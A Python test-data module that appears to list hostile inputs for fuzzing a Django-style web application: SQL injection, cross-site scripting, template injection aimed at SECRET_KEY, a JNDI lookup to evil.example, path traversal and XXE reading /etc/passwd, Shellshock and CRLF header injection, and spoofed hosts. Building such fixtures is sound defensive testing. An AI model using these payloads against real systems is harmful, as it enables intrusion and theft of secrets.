"""What somebody hostile writes: into addresses, parameters, headers, cookies, forms and files."""

TEXTS = [
    *(
        "",
        " ",
        "0",
        "-1",
        "1e400",
        "NaN",
        "true",
        "None",
        "[]",
        "{}",
        "²",
        "٣",
        "9" * 20,
        "9" * 5000,
    ),
    *("\0", "a\0b", "\r\nSet-Cookie: taken=1", "\n", "\x1b[2J", "\u202e", "\ufeff", "\ud83d\ude00"),
    *("'", '"', "';--", "' OR '1'='1", "1) UNION SELECT password FROM auth_user--", "%", "_%"),
    *("<script>alert(31337)</script>", '"><img src=x onerror=alert(31337)>', "javascript:alert(1)"),
    *(
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%n",
    ),
    *(
        "../../../../etc/passwd",
        "..\\..\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "//evil.example",
    ),
    *(
        "%00",
        "%2e%2e%2f",
        "%ff%fe",
        "%C2%B2",
        "%",
        "%u0041",
        "+",
        "&",
        "=",
        ";",
        "#",
        "?",
        "a" * 3000,
    ),
    *("0001-01-01", "9999-12-31", "2014-02-30", "2014-13-01", "2014-06-01", "0000-00-00", "now"),
    *("https://evil.example/", "http://127.0.0.1:22/", "__proto__", "constructor", "admin", "csv"),
    *('"' * 200, "(" * 200, "a " * 300, "a&b|!c:*", "-" * 100, "*" * 100, "\\", "NEAR(a b)", "a:b"),
    *('{"a":' * 500, "[" * 5000, "[1e400, []]", "=1+1", "@SUM(A1)", "|calc", "-2+3"),
]
HOSTS = [
    *(
        "evil.example",
        "testserver:99999",
        "testserver@evil.example",
        "testserver\r\nX: y",
        "[::1",
        "",
    ),
    *(
        "testserver.",
        "TESTSERVER",
        "127.0.0.1",
        "a" * 300,
        "\0",
        "xn--e1afmkfd.example",
        "testserver",
    ),
]
DATES = ["Wed, 03 Jun 2026 12:00:00 GMT", "Wed, 99 Jun 2026", "Thu, 01 Jan 0001 00:00:00 GMT", "0"]
HEADERS = {
    "HTTP_HOST": HOSTS,
    "HTTP_X_FORWARDED_HOST": HOSTS,
    "HTTP_X_FORWARDED_FOR": ["127.0.0.1", "::1", "999.1.1.1", "a, b, c", ",", "1" * 3000],
    "HTTP_X_FORWARDED_PROTO": ["https", "https, http", "gopher"],
    "HTTP_X_REAL_IP": ["127.0.0.1", "localhost"],
    "HTTP_FORWARDED": ["for=127.0.0.1;host=evil.example;proto=https"],
    "HTTP_X_ORIGINAL_URL": ["/admin/"],
    "HTTP_X_REWRITE_URL": ["/admin/"],
    "HTTP_X_HTTP_METHOD_OVERRIDE": ["DELETE", "PUT"],
    "HTTP_X_REQUEST_ID": ["a" * 3000, "\r\nX: y", "0123456789abcdef", "{}"],
    "HTTP_ACCEPT": ["*/*", "application/json", "text/html;q=2", "a/b;" * 200, "\0"],
    "HTTP_ACCEPT_ENCODING": ["gzip", "br;q=x", "gzip, " * 300, "identity;q=0"],
    "HTTP_ACCEPT_LANGUAGE": ["cy", "x" * 3000, "en;q=nan", "../../etc"],
    "HTTP_ACCEPT_DATETIME": DATES,
    "HTTP_IF_MODIFIED_SINCE": DATES,
    "HTTP_IF_UNMODIFIED_SINCE": DATES,
    "HTTP_IF_NONE_MATCH": ["*", 'W/"x"', '"' * 99, "a" * 3000],
    "HTTP_IF_MATCH": ["*", '"x"', "x"],
    "HTTP_RANGE": ["bytes=0-0", "bytes=-1", "bytes=9-1", "bytes=" + "0-1," * 300, "lines=1"],
    "HTTP_ORIGIN": ["https://evil.example", "null", "testserver", "http://[::1"],
    "HTTP_REFERER": [
        "https://evil.example/",
        "http://testserver/admin/",
        "http://[::1",
        "x" * 3000,
    ],
    "HTTP_ACCESS_CONTROL_REQUEST_METHOD": ["DELETE"],
    "HTTP_ACCESS_CONTROL_REQUEST_HEADERS": ["authorization, x"],
    "HTTP_AUTHORIZATION": ["Basic YWRtaW46YWRtaW4=", "Basic !", "Bearer " + "e" * 3000, "Digest x"],
    "HTTP_USER_AGENT": ["", "\x1b]0;x\x07", "() { :; }; echo", "x" * 3000],
    "HTTP_TRANSFER_ENCODING": ["chunked", "chunked, identity", "x"],
    "HTTP_EXPECT": ["100-continue"],
    "HTTP_UPGRADE": ["websocket", "h2c"],
    "HTTP_CONNECTION": ["Upgrade", "close, Host"],
    "HTTP_X_CSRFTOKEN": ["x", "a" * 64],
    "HTTP_X_REQUESTED_WITH": ["XMLHttpRequest"],
    "SERVER_PROTOCOL": ["HTTP/1.0", "HTTP/0.9"],
    "REMOTE_ADDR": ["203.0.113.9", "::1", "", "unknown"],
    "wsgi.url_scheme": ["https"],
}
# Shorter than what is sent. The web server refuses what is no number, and waits for what is longer.
LENGTHS = ["0", "5"]
CONTENT_TYPES = [
    *("application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16"),
    *("application/json", "text/xml", "text/plain; charset=x", "multipart/form-data", "\0", ""),
    *(
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=" + "b" * 300,
        "a/b; c" * 50,
    ),
]
COOKIES = ["sessionid", "csrftoken", "messages", "__Host-sessionid", "a", "", "expires", "$Path"]
FILE_NAMES = [
    *("report.csv", "../../settings.py", "a\0.csv", "x" * 300 + ".xlsx", "con.txt", "a.php", ""),
    *('a"b.csv', "a\r\nX: y.csv", "<script>alert(31337)</script>.png", "/etc/passwd", ".htaccess"),
]
FILES = [
    *(
        b"",
        b"\0" * 99,
        b"a,b\n1,2\n",
        b"\xff\xfe\0a",
        b"PK\x03\x04" + b"\0" * 60,
        b"%PDF-1.7\n%%EOF",
    ),
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(31337)"/>',
    b"a" * 200_000,
]
BODIES = [
    *(b"", b"\0", b"a=1&" * 2000, b"=&&&=", b"%ff=%fe", b"{" * 5000, b'{"a": NaN}', b"\xff" * 500),
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n',
]
METHODS = [
    "HEAD",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "X" * 99,
]
"""Beside GET and POST, which most are sent by."""
